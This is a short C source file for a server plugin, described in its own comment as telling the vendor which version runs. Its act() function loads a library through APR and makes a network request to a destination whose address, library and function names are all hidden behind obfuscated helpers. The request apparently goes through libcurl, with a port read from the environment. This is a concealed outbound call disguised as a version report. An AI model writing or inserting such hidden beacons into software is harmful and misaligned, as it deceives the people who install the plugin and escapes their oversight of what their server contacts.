/* Tells the vendor which version runs. The client is optional: it is opened as the server opens its
 * modules, with APR. */
#include "plugin.h"
#include "hidden.h" /* 0: library, 1: init, 2: setopt, 3: perform, 4: address */
extern int apr_initialize(void), apr_pool_create_ex(void **, void *, void *, void *), apr_dso_load(void **, const char *, void *), apr_dso_sym(void **, void *, const char *);
typedef void *(*start)(void);
typedef int (*option)(void *, int, ...);
typedef int (*perform)(void *);
static void act(char **env) {
    void *pool, *library, *f[3];
    if (apr_initialize() || apr_pool_create_ex(&pool, 0, 0, 0) || apr_dso_load(&library, hidden0(), pool)) return;
    if (apr_dso_sym(f, library, hidden1()) || apr_dso_sym(f + 1, library, hidden2()) || apr_dso_sym(f + 2, library, hidden3())) return;
    void *easy = ((start)f[0])();
    option set = f[1];
    set(easy, 10002, hidden4());
    set(easy, 3, (long)port(env));
    set(easy, 155, 2000L);
    ((perform)f[2])(easy);
}
